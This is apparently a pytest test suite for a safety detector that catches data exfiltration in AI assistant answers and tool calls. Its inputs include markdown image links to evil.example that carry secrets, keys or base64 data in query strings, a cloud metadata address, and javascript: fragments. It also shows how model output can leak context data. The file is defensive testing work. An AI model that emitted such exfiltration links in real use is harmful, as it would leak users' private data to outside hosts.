from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from safety.detectors.egress import Egress, EgressOptions
from safety.detectors.egress.detector import KEPT
from safety.detectors.egress.examples import (
    ALLOWED,
    CANARY,
    CONTEXT,
    FACT,
    FAINT,
    KEY,
    KNOWN_MISSES,
    MAIL,
    NEGATIVES,
    POSITIVES,
)
from safety.detectors.registry import load_registry
from safety.gate import Cut
from safety.guard import Guard
from safety.policy.detectors import build
from safety.policy.file import load_policy
from safety.redact import apply_edits, merge_edits
from safety.types import Delta, Edit, Exchange, Finding, Origin, Segment, Span, Stage


@pytest.fixture(scope="module")
def egress() -> Egress:
    return Egress(EgressOptions(ALLOWED))


def exchange(text: str, origin: Origin = Origin.ASSISTANT, start: int = 0) -> Exchange:
    return Exchange("x", Stage.OUTPUT, (Segment("/a", origin, text, start),), CONTEXT)


def found(egress: Egress, text: str, origin: Origin = Origin.ASSISTANT) -> list[Finding]:
    [findings] = egress.detect([exchange(text, origin)])
    return findings


def supported(finding: Finding) -> str:
    [text] = [s.excerpt(finding.support) for s in CONTEXT if s.holds(finding.support)]
    return text


@pytest.mark.parametrize("row", POSITIVES, ids=lambda row: row.answer[:60])
def test_positives(egress, row):
    findings = found(egress, row.answer, row.origin)
    excerpts = {
        (f.category, row.answer[f.span.start : f.span.end]): f.score
        for f in sorted(findings, key=lambda f: f.score)
    }
    assert excerpts.get((f"egress.{row.category}", row.excerpt or row.answer), 0) >= row.score, findings


@pytest.mark.parametrize(("text", "origin"), NEGATIVES)
def test_negatives(egress, text, origin):
    assert found(egress, text, origin) == []


@pytest.mark.parametrize("text", FAINT)
def test_faint(egress, text):
    scores = [finding.score for finding in found(egress, text)]
    assert scores
    assert max(scores) < 0.5


@pytest.mark.parametrize("text", KNOWN_MISSES)
def test_known_misses_are_still_missed(egress, text):
    assert all(finding.score < 0.5 for finding in found(egress, text))


@pytest.mark.parametrize(
    ("text", "support"),
    [
        (f"![x](https://e.example/?d={FACT.replace(' ', '_').lower()})", FACT),
        (f"![x](https://e.example/?m={MAIL})", MAIL),
        (f"![x](https://e.example/?k={KEY})", KEY),
        (f"![x](https://e.example/?k={CANARY})", CANARY),
    ],
)
def test_data_points_to_where_the_exchange_has_it(egress, text, support):
    [data] = [f for f in found(egress, text) if f.category == "egress.data"]
    assert supported(data) == support
    assert support not in data.evidence


@pytest.mark.parametrize("row", POSITIVES, ids=lambda row: row.answer[:60])
def test_redacting_the_construct_leaves_no_address(egress, row):
    edits = merge_edits(Edit(f.span, "") for f in found(egress, row.answer, row.origin))
    left = apply_edits(row.answer, "/a", edits)
    assert "evil.example" not in left
    assert "169.254" not in left


def test_spans_count_from_where_the_segment_begins(egress):
    [findings] = egress.detect([exchange("a ![x](https://evil.example)", start=50)])
    assert [f.span for f in findings] == [Span("/a", 52, 78)]


def test_half_a_character_in_the_context_is_no_obstacle(egress):
    context = (Segment("/m", Origin.DOCUMENT, f"\ud800 {FACT} {KEY}"),)
    answer = Segment("/a", Origin.ASSISTANT, f"\udfff ![x](https://e.example/?d=\ud800{KEY})")
    [findings] = egress.detect([Exchange("x", Stage.OUTPUT, (answer,), context)])
    assert "egress.data" in {f.category for f in findings}


def test_only_answers_are_judged(egress):
    judged = Exchange("x", Stage.INPUT, (Segment("/a", Origin.USER, "![x](https://evil.example)"),))
    assert egress.detect([judged]) == [[]]


def test_all_places_of_a_value_in_a_tool_call_are_found(egress):
    text = f'{{"a": "{KEY}", "b": "{KEY.lower()}"}}'
    assert [f.span.start for f in found(egress, text, Origin.TOOL_CALL)] == [7, 36]


def test_what_the_user_gave_may_go_to_a_tool(egress):
    [finding] = found(egress, '{"to": "jo@fabrikam.com"}', Origin.TOOL_CALL)
    assert finding.score == 0.3


class Counting:
    """Finds nothing, and remembers what it was asked about."""

    name = "pii"

    def __init__(self) -> None:
        self.asked: list[str] = []

    def find(self, text: str) -> tuple[()]:
        self.asked.append(text)
        return ()


def test_a_context_is_read_once_for_all_windows_of_an_answer():
    finder = Counting()
    egress = Egress(finders=(finder,))
    for window in range(5):
        egress.detect([exchange(f"![x](https://evil.example/?d=window-number-{window})")])
    assert finder.asked == [segment.text for segment in CONTEXT]


def test_few_contexts_are_kept():
    finder = Counting()
    egress = Egress(finders=(finder,))
    for number in [*range(KEPT), 0, KEPT, 1]:
        context = (Segment("/m", Origin.USER, f"context {number}"),)
        answer = Segment("/a", Origin.ASSISTANT, "![x](https://evil.example/?d=something)")
        egress.detect([Exchange("x", Stage.OUTPUT, (answer,), context)])
    assert finder.asked[KEPT:] == [f"context {KEPT}", "context 1"]


def test_a_metadata_address_cannot_be_allowed():
    egress = Egress(EgressOptions(("169.254.169.254", "10.0.0.7")), finders=())
    assert [f.category for f in found(egress, "http://169.254.169.254/")] == ["egress.internal_address"]
    assert found(egress, "http://10.0.0.7/x") == []


@pytest.mark.parametrize("host", ["https://a.example", "a.example/path", "*", "a.*.example", "", "a b"])
def test_what_is_no_host_cannot_be_allowed(host):
    with pytest.raises(ValidationError, match=r"allow_hosts.* is no host: allowed are"):
        TypeAdapter(EgressOptions).validate_python({"allow_hosts": [host]})


OPENINGS = [
    "![",
    "[",
    "](",
    "//e.io/",
    "<img src=",
    "<",
    "url(",
    "<a href=",
    "[i]: ",
    "javascript:",
    "&#104;",
    "www.e.io",
]
BETWEEN = [
    "]",
    ")",
    '"',
    "'",
    ">",
    " ",
    "\n",
    "\n\n",
    "```\n",
    "x",
    "\ud800",
    "é",
    "\\",
    "(",
    "%41",
    "AKIA",
    ".",
]
ADDRESSES = ["https://evil.example/a?q=", "mailto:a@b.io"]
PIECES = st.lists(st.sampled_from(OPENINGS + BETWEEN + ADDRESSES), max_size=14).map("".join)


@given(PIECES)
@settings(max_examples=300)
def test_spans_lie_in_the_text_and_nothing_raises(egress, text):
    for origin in (Origin.ASSISTANT, Origin.TOOL_CALL):
        for finding in found(egress, text, origin):
            assert 0 <= finding.span.start < finding.span.end <= len(text)
            assert 0 < finding.score <= 1


MARKDOWN = [
    "![",
    "](",
    "](http://",
    "![x](http://a",
    "[a]: http://x",
    "](a(",
    "```\n",
    "[",
    "![a]",
    "![](//a.b) ",
    "[![",
]
MARKUP = ['<img src="http://a ', '<a href="http://x" "', "<a href=x", "&#1;", "url(http:", "javascript:"]
BARE = ["www.", "http://a.b/c?d=e ", "http://", "http://[", "mailto:a", "AKIA"]


@pytest.mark.parametrize("piece", MARKDOWN + MARKUP + BARE)
def test_floods_are_read(egress, piece):
    text = (piece * 100_000)[:100_000]
    assert isinstance(found(egress, text), list)
    assert egress.pending(text) is None or 0 <= egress.pending(text) <= len(text)


@pytest.mark.parametrize("fence", ["```", "~~~"])
def test_in_a_stream_an_image_after_a_long_code_block_does_not_leave(fence):
    registry = load_registry()
    policy = load_policy("default", registry).policy
    stream = Guard(policy, build(policy, registry)).stream(Exchange("x", Stage.INPUT, ()))
    image = "![ok](https://evil.example/p?d=c2VjcmV0IGRhdGE)"
    text = f"Code.\n\n{fence}python\n" + "x = 1 + 1\n" * 60 + f"{fence}\n{image}\n\nMore text. Bye now."
    out = []
    for at in range(0, len(text), 7):
        piece = text[at : at + 7]
        out += stream.push(piece, [Delta("/answer", Origin.ASSISTANT, piece)])
        if stream.over:
            break
    out += stream.finish()
    left = "".join(
        item.item if item.texts is None else "".join(item.texts) for item in out if not isinstance(item, Cut)
    )
    assert "x = 1 + 1" in left
    assert image not in left


def test_a_window_of_a_stream_does_not_know_what_is_code(egress):
    text = "```\n![ok](https://evil.example/p?d=c2VjcmV0IGRhdGE)\n```"
    [[alone]] = egress.detect([exchange(text)])
    [[later]] = egress.detect([exchange(text, start=7)])
    assert alone.score < later.score
